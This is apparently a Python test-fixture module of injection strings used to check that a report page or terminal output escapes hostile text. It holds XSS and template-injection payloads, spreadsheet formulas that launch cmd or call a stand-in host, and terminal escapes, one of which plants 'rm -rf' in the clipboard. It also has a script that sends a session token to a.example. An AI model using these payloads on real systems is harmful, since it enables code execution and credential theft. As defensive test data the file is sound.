"""Texts that would act if a report let them: for file names, tags and the words of a model."""

from __future__ import annotations

HTML = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<iframe src=javascript:{}>", "<a href='javascript:{}'>x</a>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}>", "<math><mtext><script>{}</script></mtext></math>",
    '"><script>{}</script>', "'><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", '" onmouseover={} x="',
    "' onmouseover={} x='", "<style>@import 'http://a.example/x.css'</style>",
    "<link rel=stylesheet href=http://a.example/x.css>", "<meta http-equiv=refresh content='0;url=http://a.example'>",
    "<base href=http://a.example/>", "<form action=http://a.example><button>x</button></form>",
    "<object data=data:text/html,<script>{}</script>>", "<embed src=data:text/html,<script>{}</script>>",
    "{{{{ 7*7 }}}}", "{{% for x in [1] %}}{}{{% endfor %}}", "{{{{ ''.__class__.__mro__ }}}}", "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<scr\x00ipt>{}</scr\x00ipt>",
    "\ufeff<script>{}</script>", "<template><script>{}</script></template>",
    "<button popovertarget=x onclick={}>x</button>",
    "<marquee onstart={}>x</marquee>", "<xss style='animation-name:x' onanimationstart={}>x</xss>",
)  # fmt: skip
"""{} is what runs."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example","x")', '=WEBSERVICE("http://a.example")',
    '=IMPORTXML("http://a.example","//a")', '=DDE("cmd","/C calc","x")', "=SUM(1,1)*cmd|'x'!A0", "+1+1",
    "+cmd|' /C calc'!A0", "+SUM(1,1)", "-1+1", "-cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0", "@SUM(1,1)", "@cmd|'x'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x0b=1+1",
    "\u202e=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "\ufe661+1", "\ufe621+1", "\ufe631+1",
    "\ufe6bSUM(1,1)", "clear;=1+1", "clear; =1+1", "clear;;+1", 'clear";"=1+1', "clear\n=1+1", "clear\t@SUM(1,1)",
)  # fmt: skip

TERMINAL = (
    "\x1b[2J", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJm\x07", "\x1b]8;;http://a.example\x07x\x1b]8;;\x07", "\x1bc",
    "\x1b[6n", "\x1b[31m", "\x1bP+q\x1b\\", "\x9b2J", "\x9d0;x\x9c", "\x90x\x9c", "\x07", "\x08\x08\x08", "\x0c",
    "\x0b", "\x00", "\x7f", "\x85", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f",
    "\u061c",
    "\u200b", "\ufeff", "\u2028", "\u2029", "\r", "\r\x1b[A", "\x1b[?1049h", "\x1b[5i", "\x1b#8", "\x0e", "\x0f",
    "\x1b[1;1H", "\x1bM",
)  # fmt: skip

PAGE = (
    "<img src='/api/v1/quit' onerror={}>", "<style>*{{background:url(http://a.example)}}</style>",
    "<script type=module>import 'http://a.example/x.js'</script>",
    "<script>fetch('//a.example/'+sessionStorage.token)</script>",
    '<script type=importmap>{{"imports":{{"preact":"http://a.example"}}}}</script>',
    "<iframe srcdoc='<script>{}</script>'>", "<link rel=prefetch href=http://a.example>",
    "<link rel=preconnect href=http://a.example>", "<img srcset=http://a.example>",
    "<a href=http://a.example ping=http://a.example>x</a>", "<audio src=http://a.example autoplay>",
    "<portal src=http://a.example>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<dialog open onclose={}>x</dialog>", "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<form id=x><button form=x formaction=javascript:{}>x</button></form>",
    '<a href="data:text/html,<script>{}</script>">x</a>', "<object data=javascript:{}></object>",
    "![x](http://a.example/x.png) [x](javascript:{})", "`<img src=x onerror={}>`",
    "${{alert(1)}} {{{{constructor.constructor('acted++')()}}}}", "<slot name=x onslotchange={}></slot>",
    "\u202e<script>{}</script>",
)  # fmt: skip
"""For the page of `serve`: its parts, its own addresses, and what it must not fetch."""
